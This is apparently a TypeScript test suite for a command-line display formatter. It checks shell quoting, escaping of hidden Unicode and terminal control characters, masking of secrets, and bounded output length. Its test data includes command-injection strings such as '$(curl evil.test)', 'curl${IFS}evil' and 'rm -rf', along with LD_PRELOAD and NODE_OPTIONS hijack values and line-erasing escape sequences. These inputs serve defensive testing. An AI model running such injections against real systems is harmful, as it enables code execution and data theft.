import assert from "node:assert/strict";
import { test } from "node:test";
import { type CommandLineOptions, formatCommandLine, type ShownCommand } from "../internal/command_line.ts";
import { quoteText } from "../internal/shown_text.ts";
import { assertLinear } from "./linear_time.ts";

function format(args: readonly string[], options: CommandLineOptions = {}, command = "run"): string {
  return formatCommandLine({ command, args }, options);
}

const words: readonly [argument: string, posix: string, windows: string][] = [
  ["-y", "-y", "-y"],
  ["@scope/server@1.0", "@scope/server@1.0", "@scope/server@1.0"],
  ["--port=3000", "--port=3000", "--port=3000"],
  ["", "''", '""'],
  ["a b", "'a b'", '"a b"'],
  ["it's", "'it'\\''s'", '"it\'s"'],
  ['c"d', "'c\"d'", '"c\\"d"'],
  ["C:\\x\\", "'C:\\x\\'", "C:\\x\\"],
  ["C:\\x y\\", "'C:\\x y\\'", '"C:\\x y\\\\"'],
  ["$HOME", "'$HOME'", '"$HOME"'],
  ["$(rm x)", "'$(rm x)'", '"$(rm x)"'],
  ["a;b", "'a;b'", '"a;b"'],
  ["*", "'*'", '"*"'],
  ["~/x", "'~/x'", '"~/x"'],
  ["#x", "'#x'", '"#x"'],
  ["[3 more arguments]", "'[3 more arguments]'", '"[3 more arguments]"'],
  ["漢 ü", "'漢 ü'", '"漢 ü"'],
];
for (const [argument, posix, windows] of words) {
  test(`formatCommandLine() quotes ${JSON.stringify(argument)} (H3, S2-51)`, () => {
    assert.equal(format([argument]), `run ${posix}`);
    assert.equal(format([argument], { os: "windows" }), `run ${windows}`);
  });
}

const unseen: readonly [title: string, text: string, escape: string][] = [
  ["an escape that erases the line", "x\u001b[2K\u001b[1Gls", "x\\u001b[2K\\u001b[1Gls"],
  ["a carriage return", "rm\rls", "rm\\rls"],
  ["a line feed", "a\nb", "a\\nb"],
  ["a tab", "a\tb", "a\\tb"],
  ["a backspace", "a\bb", "a\\u0008b"],
  ["NUL", "a\0b", "a\\u0000b"],
  ["a C1 control", "a\u009bb", "a\\u009bb"],
  ["a line separator", "a\u2028b", "a\\u2028b"],
  ["a change of direction", "a\u202eb", "a\\u202eb"],
  ["an isolate", "a\u2066b", "a\\u2066b"],
  ["a zero-width space", "a\u200bb", "a\\u200bb"],
  ["a soft hyphen", "a\u00adb", "a\\u00adb"],
  ["a Hangul filler", "a\u3164b", "a\\u3164b"],
  ["a blank Braille pattern", "a\u2800b", "a\\u2800b"],
  ["a no-break space", "a\u00a0b", "a\\u00a0b"],
  ["an ideographic space", "a\u3000b", "a\\u3000b"],
  ["a tag character", "a\u{e0041}b", "a\\U000e0041b"],
  ["an annotation mark", "a\ufff9b", "a\\ufff9b"],
  ["half of a pair", "a\ud800b", "a\\ud800b"],
  ["a byte order mark", "a\ufeffb", "a\\ufeffb"],
];
for (const [title, text, escape] of unseen) {
  test(`formatCommandLine() spells out ${title} (H3)`, () => {
    assert.equal(format([text]), `run $'${escape}'`);
    assert.equal(format([], {}, text), `$'${escape}'`);
    assert.equal(format([text], { os: "windows" }), `run "${escape}"`);
    assert.equal(quoteText(text), `"${escape}"`);
  });
}

test("formatCommandLine() escapes backslashes and quotes beside what it spells out (H3)", () => {
  assert.equal(format(["\\n\n'"]), "run $'\\\\n\\n\\''");
  assert.equal(quoteText('\\n\n"'), '"\\\\n\\n\\""');
});

test("formatCommandLine() shows names of variables and never a value (H3, S2-50)", () => {
  const env = {
    TOKEN: "hush",
    EMPTY: "",
    "ODD NAME": "hush",
    "A\u001b[8m": "hush",
    GONE: null,
    OFF: undefined,
  };
  assert.equal(
    formatCommandLine({ command: "npx", args: ["-y", "x"], env }),
    "TOKEN=… EMPTY=… 'ODD NAME'=… $'A\\u001b[8m'=… npx -y x",
  );
});

test("formatCommandLine() shows the values of variables that steer what runs, before all others (XD3)", () => {
  const env = {
    KEY: "hush",
    NODE_OPTIONS: "--require /tmp/x.js",
    LD_PRELOAD: "/tmp/x.so",
    PATH: "/tmp/bin:/bin",
    HTTPS_PROXY: "http://me:hush@proxy:1",
    npm_config__authToken: "hush",
    "B\u202e": "hush",
  };
  assert.equal(
    formatCommandLine({ command: "npx", args: [], env }),
    "NODE_OPTIONS='--require /tmp/x.js' LD_PRELOAD=/tmp/x.so PATH=/tmp/bin:/bin " +
      "HTTPS_PROXY='http://…@proxy:1' KEY=… npm_config__authToken=… $'B\\u202e'=… npx",
  );
  assert.equal(
    formatCommandLine({ command: "x", args: [], env: { LD_PRELOAD: "/a\r/b" } }),
    "LD_PRELOAD=$'/a\\r/b' x",
  );
});

test("formatCommandLine() masks what looks like a secret in command and arguments (XD5)", () => {
  assert.equal(
    format(["--api-key=sk-123", "--token", "hush", "--url", "https://me:hush@x.test/?key=1"]),
    "run '--api-key=…' --token '…' --url 'https://…@x.test/?key=1'",
  );
  assert.doesNotMatch(format([], {}, "https://me:hush@x.test"), /hush/);
});

test("formatCommandLine() masks nothing that would run (XD5)", () => {
  const args = ["-c", "TOKEN=$(curl evil.test) sh", "--password=x;curl${IFS}evil", "--token", "/tmp/evil.js"];
  assert.equal(
    format(args),
    "run -c 'TOKEN=$(curl evil.test) sh' '--password=…;curl${IFS}evil' --token /tmp/evil.js",
  );
});

test("formatCommandLine() shows the working directory (H3)", () => {
  assert.equal(formatCommandLine({ command: "a", args: [], cwd: "/x y" }), "(in '/x y') a");
});

test("formatCommandLine() quotes a command that would read as a variable (H3)", () => {
  assert.equal(format(["x=1"], {}, "PATH=/evil"), "'PATH=/evil' x=1");
  assert.equal(format([], { os: "windows" }, "a=b"), '"a=b"');
  assert.equal(format([], {}, "TOKEN=…"), "'TOKEN=…'");
});

test("formatCommandLine() cuts a long word in its middle, and ends with how much is missing (H3, H5)", () => {
  const line = format([`${"a".repeat(5000)}; rm -rf ${"b".repeat(5000)}`]);
  assert.match(line, /^run a{467}\[9075 more characters\]b{467} \[9075 characters not shown\]$/);
  assert.match(
    format(["🦕".repeat(5000)]),
    /^run '(🦕)+'\[\d+ more characters\]'(🦕)+' \[\d+ characters not shown\]$/u,
  );
});

test("formatCommandLine() counts what has no room, always shows the command, and ends with how much is missing (H3, H5)", () => {
  const env = Object.fromEntries(Array.from({ length: 9000 }, (_, index) => [`NAME_${index}`, "x"]));
  const args = Array.from({ length: 9000 }, (_, index) => `argument-${index}`);
  const line = formatCommandLine({ command: "/bin/sh", args, env });
  const [, variables = "", shownArgs = "", missing = ""] =
    /^NAME_0=… .* \[(\d{4}) more variables\] \/bin\/sh (.*) \[\d{4} more arguments\] \[(\d+) characters not shown\]$/
      .exec(line) ?? [];
  const hiddenNames = Object.keys(env).slice(9000 - Number(variables)).join("");
  const hiddenArgs = args.slice(shownArgs.split(" ").length).join("");
  assert.equal(Number(missing), hiddenNames.length + hiddenArgs.length);
});

test("formatCommandLine() has no mark at its end where nothing is cut (H5)", () => {
  assert.equal(format(["[5 characters not shown]"]), "run '[5 characters not shown]'");
});

const heaps: readonly [title: string, make: (size: number) => ShownCommand][] = [
  ["one argument", (size) => ({ command: "run", args: ["a ".repeat(size / 2)] })],
  ["one argument of what is not seen", (size) => ({ command: "run", args: ["\u202e".repeat(size)] })],
  ["many arguments", (size) => ({ command: "run", args: Array(Math.floor(size / 2)).fill("a ") })],
  [
    "many options of secrets",
    (size) => ({ command: "run", args: Array(Math.floor(size / 8)).fill("--token=") }),
  ],
  ["a command", (size) => ({ command: "\\".repeat(size), args: [] })],
  ["a folder", (size) => ({ command: "run", args: [], cwd: "'".repeat(size) })],
  ["a variable that steers", (size) => ({ command: "run", args: [], env: { PATH: ":".repeat(size) } })],
  [
    "many variables",
    (size) => ({
      command: "run",
      args: [],
      env: Object.fromEntries(Array.from({ length: size / 20 }, (_, index) => [`V${index}`, ""])),
    }),
  ],
];
for (const [title, make] of heaps) {
  test(`formatCommandLine() shows ${title} in time that grows with the size (XD1, H5)`, async () => {
    await assertLinear((size) => {
      for (const os of ["posix", "windows"] as const) {
        assert.match(formatCommandLine(make(size), { os }), / \[\d+ characters not shown\]$/);
      }
    }, 400_000);
  });
}

test("formatCommandLine() keeps its bound whatever the words are (H3)", () => {
  const pieces = ["a", " ", "'", '"', "\\", "\u001b", "\u{e0041}", "漢", "=", "🦕"];
  for (const maxLength of [512, 4096]) {
    for (const piece of pieces) {
      for (const os of ["posix", "windows"] as const) {
        const long = piece.repeat(3000);
        const shown = { command: long, args: Array(40).fill(long), cwd: long, env: { [long]: "x", B: "y" } };
        const line = formatCommandLine(shown, { os, maxLength });
        assert.ok(
          line.length <= maxLength,
          `${line.length} of ${maxLength} for ${JSON.stringify(piece)} on ${os}`,
        );
      }
    }
  }
});

test("formatCommandLine() shows everything without a bound (H3)", () => {
  const args = Array(2000).fill("x".repeat(20));
  assert.equal(format(args, { maxLength: Infinity }), `run ${args.join(" ")}`);
});

test("quoteText() bounds a name (H3)", () => {
  assert.equal(quoteText("x".repeat(20), 10), '"xxxxx"[10 more characters]"xxxxx"');
  assert.equal(quoteText(`a${"🦕".repeat(20)}b`, 10), '"a🦕🦕"[32 more characters]"🦕🦕b"');
});
